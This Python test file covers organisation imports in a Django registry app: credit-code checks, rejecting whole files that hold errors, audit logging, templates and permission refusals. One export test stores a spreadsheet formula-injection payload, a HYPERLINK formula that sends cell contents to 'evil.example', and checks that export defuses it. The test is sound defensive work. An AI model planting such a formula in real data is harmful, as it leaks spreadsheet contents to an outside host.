"""Import of organisations (registry.imports_orgs): GB 32100 codes, closed choices, all or
nothing, updates by credit code, GBK files, audit, and who may import."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from policyhub.audit.models import AuditEntry
from policyhub.engine.creditcode import check_character
from policyhub.registry.imports_objects import ImportFailed, import_file, template_bytes
from policyhub.registry.models import Organisation
from tests.personas import Personas, credit_code, personas
from tests.registry.helpers import write_csv, write_gbk_csv, write_xlsx, xlsx_bytes
from tests.registry.object_imports import MAY_IMPORT, MAY_NOT_IMPORT, persona, post

pytestmark = pytest.mark.django_db
HEADER = ["统一社会信用代码", "名称", "主体类别", "所在区县（市）", "所在园区", "在长沙市注册",
          "高新技术企业"]


@pytest.fixture
def p() -> Personas:
    return personas()


def _row(code: str, name: str = "长沙新盾科技有限公司", **over: Any) -> list[Any]:
    values = {"kind": "企业", "district": "岳麓区", "park": "长沙高新区管委会",
              "registered": "是", "high_tech": "否"} | over
    return [code, name, values["kind"], values["district"], values["park"],
            values["registered"], values["high_tech"]]


def _errors(path: Path, actor: Any) -> list[tuple[int, str, str]]:
    with pytest.raises(ImportFailed) as info:
        import_file(path, "organisations", actor=actor)
    return [(e.row, e.column, e.reason) for e in info.value.errors]


@pytest.mark.parametrize("writer", [write_xlsx, write_csv, write_gbk_csv])
def test_new_organisations_import_with_their_park_and_flags(p: Personas, tmp_path: Path,
                                                            writer: Any) -> None:
    suffix = ".xlsx" if writer is write_xlsx else ".csv"
    code_a, code_b = credit_code(), credit_code()
    rows = [HEADER, _row(code_a),
            _row(code_b.lower(), "长沙湘研网络研究院", kind="科研院所/研发机构",
                 district="长沙县", park="ceda", high_tech="是")]
    result = import_file(writer(tmp_path / f"orgs{suffix}", rows), "organisations",
                         actor=p.bureau_officer)
    assert (result.rows, result.created, result.updated) == (2, 2, 0)
    a = Organisation.objects.get(credit_code=code_a)
    b = Organisation.objects.get(credit_code=code_b)  # a lower-case code is the same code
    assert (a.name, a.kind, a.district, a.park.code if a.park else None) == (
        "长沙新盾科技有限公司", "enterprise", "岳麓区", "hitech")
    assert (b.kind, b.park.code if b.park else None, b.high_tech) == ("institute", "ceda", True)
    assert a.taxed_in_changsha  # not in the file: the model's default
    created = AuditEntry.objects.filter(action="registry.organisation.create")
    assert {e.object_id for e in created} == {str(a.pk), str(b.pk)}
    summary = AuditEntry.objects.get(action="registry.import", allowed=None)
    assert summary.payload["created"] == 2 and summary.actor_label == "bureau_officer"


def test_a_known_credit_code_updates_that_organisation_and_blank_cells_keep_values(
        p: Personas, tmp_path: Path) -> None:
    p.org.high_tech = True
    p.org.save()
    rows = [HEADER, [p.org.credit_code, "长沙星盾网络安全股份有限公司", "企业", "", "", "", ""]]
    result = import_file(write_xlsx(tmp_path / "u.xlsx", rows), "organisations",
                         actor=p.admin)
    assert (result.created, result.updated) == (0, 1)
    p.org.refresh_from_db()
    assert p.org.name == "长沙星盾网络安全股份有限公司"
    assert p.org.high_tech and p.org.district == "岳麓区" and p.org.park is not None
    update = AuditEntry.objects.get(action="registry.organisation.update")
    assert update.payload["before"] == {"name": "长沙星盾网络安全有限公司"}
    assert update.payload["after"] == {"name": "长沙星盾网络安全股份有限公司"}
    again = import_file(write_xlsx(tmp_path / "v.xlsx", rows), "organisations", actor=p.admin)
    assert (again.created, again.updated, again.unchanged) == (0, 0, 1)


def test_every_bad_field_is_reported_and_nothing_is_imported(p: Personas,
                                                            tmp_path: Path) -> None:
    good = credit_code()
    wrong_check = good[:17] + ("0" if good[17] != "0" else "1")
    short = good[:16]
    rows = [HEADER,
            _row(good),                                        # row 2: good
            _row(wrong_check),                                 # row 3: check character
            _row(credit_code(), ""),                           # row 4: empty name
            _row(credit_code(), district="浦东新区"),           # row 5: unknown district
            _row(good, "另一家"),                               # row 6: duplicate of row 2
            _row(credit_code(), "长" * 201),                    # row 7: over-long name
            _row(credit_code(), kind="合作社", park="北京中关村"),  # row 8: kind and park
            _row(short),                                       # row 9: too short
            _row(credit_code(), registered="也许")]            # row 10: not a yes/no
    errors = _errors(write_xlsx(tmp_path / "bad.xlsx", rows), p.bureau_officer)
    by_row = {(r, c) for r, c, _ in errors}
    assert sorted({r for r, _, _ in errors}) == [3, 4, 5, 6, 7, 8, 9, 10]
    reasons = {(r, c): why for r, c, why in errors}
    expected = check_character(good[:17])
    assert reasons[(3, "统一社会信用代码")] == (
        f"统一社会信用代码无效：校验码错误：按 GB 32100-2015 第18位应为 {expected}，"
        f"此处为 {wrong_check[17]}")
    assert (4, "名称") in by_row and "必填" in reasons[(4, "名称")]
    assert "未知区县" in reasons[(5, "所在区县（市）")]
    assert reasons[(6, "统一社会信用代码")] == (
        "与第2行重复：同一统一社会信用代码在一个文件中只能有一行")
    assert reasons[(7, "名称")] == "过长：最多 200 个字符，此处为 201 个字符"
    assert {(8, "主体类别"), (8, "所在园区")} <= by_row
    assert "应为18位" in reasons[(9, "统一社会信用代码")]
    assert (10, "在长沙市注册") in by_row
    assert Organisation.objects.count() == 1  # the personas' own, nothing imported
    refusal = AuditEntry.objects.get(action="registry.import", allowed=False)
    assert "8 行有误" in refusal.reason


def test_the_template_has_choices_an_example_that_imports_and_notes(
        p: Personas, tmp_path: Path) -> None:
    body = template_bytes("organisations")
    book = load_workbook(io.BytesIO(body))
    sheet = book["主体"]
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["统一社会信用代码", "名称", "主体类别"]
    lists = {str(dv.sqref)[0]: dv.formula1 for dv in sheet.data_validations.dataValidation}
    assert "企业" in lists["C"] and "岳麓区" in lists["D"] and "长沙高新区管委会" in lists["E"]
    notes = book["填写说明"]
    assert notes["A2"].value == "统一社会信用代码" and "GB 32100" in notes["B2"].value
    example = [[c.value for c in sheet[1]], [c.value for c in sheet[2]]]
    result = import_file(write_xlsx(tmp_path / "ex.xlsx", example), "organisations",
                         actor=p.bureau_officer)
    assert result.created == 1


@pytest.mark.parametrize("who", MAY_IMPORT)
def test_registry_staff_may_import_organisations(p: Personas, who: str) -> None:
    response = post(persona(p, who), "organisations", "o.xlsx",
                    xlsx_bytes([HEADER, _row(credit_code())]))
    assert response.status_code == 200
    assert Organisation.objects.count() == 2


@pytest.mark.parametrize("who", MAY_NOT_IMPORT)
def test_others_are_refused_before_the_file_is_read(p: Personas, who: str) -> None:
    response = post(persona(p, who), "organisations", "o.xlsx",
                    xlsx_bytes([HEADER, _row(credit_code())]))
    assert response.status_code == 403
    assert "仅市工业和信息化局经办人或系统管理员可导入主体、人才和团队" in response.text
    assert Organisation.objects.count() == 1
    assert AuditEntry.objects.filter(action="registry.import", allowed=False).exists()


def test_the_service_refuses_an_enterprise_too(p: Personas, tmp_path: Path) -> None:
    errors = _errors(write_xlsx(tmp_path / "o.xlsx", [HEADER, _row(credit_code())]),
                     p.applicant)
    assert errors == [(0, "文件", "仅市工业和信息化局经办人或系统管理员可导入主体、人才和团队")]
    assert Organisation.objects.count() == 1


def test_the_page_offers_these_kinds_and_templates_to_registry_staff_only(p: Personas) -> None:
    staff, applicant = Client(), Client()
    staff.force_login(p.bureau_officer)
    applicant.force_login(p.applicant)
    assert "organisations.xlsx" in staff.get(reverse("registry:import")).text
    page = applicant.get(reverse("registry:import")).text
    assert "organisations.xlsx" not in page and 'value="organisations"' not in page
    download = staff.get(reverse("registry:import_template", args=["teams"]))
    assert download.status_code == 200 and download.content.startswith(b"PK")


def test_the_command_imports_organisations(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "o.xlsx", [HEADER, _row(credit_code())])
    out = io.StringIO()
    call_command("import_registry", str(path), "--kind", "organisations", stdout=out)
    assert "新增 1" in out.getvalue() and Organisation.objects.count() == 1


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_export_quotes_formulas_and_imports_back_unchanged(p: Personas, tmp_path: Path,
                                                               fmt: str) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    p.org.name = evil
    p.org.save()
    client = Client()
    client.force_login(p.auditor)
    response = client.get(reverse("registry:export", args=["organisations", fmt]))
    assert response.status_code == 200
    path = tmp_path / f"orgs.{fmt}"
    path.write_bytes(response.content)
    if fmt == "csv":
        assert f"'{evil}".replace('"', '""') in response.content.decode("utf-8-sig")
    else:
        assert load_workbook(path).active["B2"].value == "'" + evil
    result = import_file(path, "organisations", actor=p.bureau_officer)
    assert (result.rows, result.updated, result.unchanged) == (1, 0, 1)
    p.org.refresh_from_db()
    assert p.org.name == evil
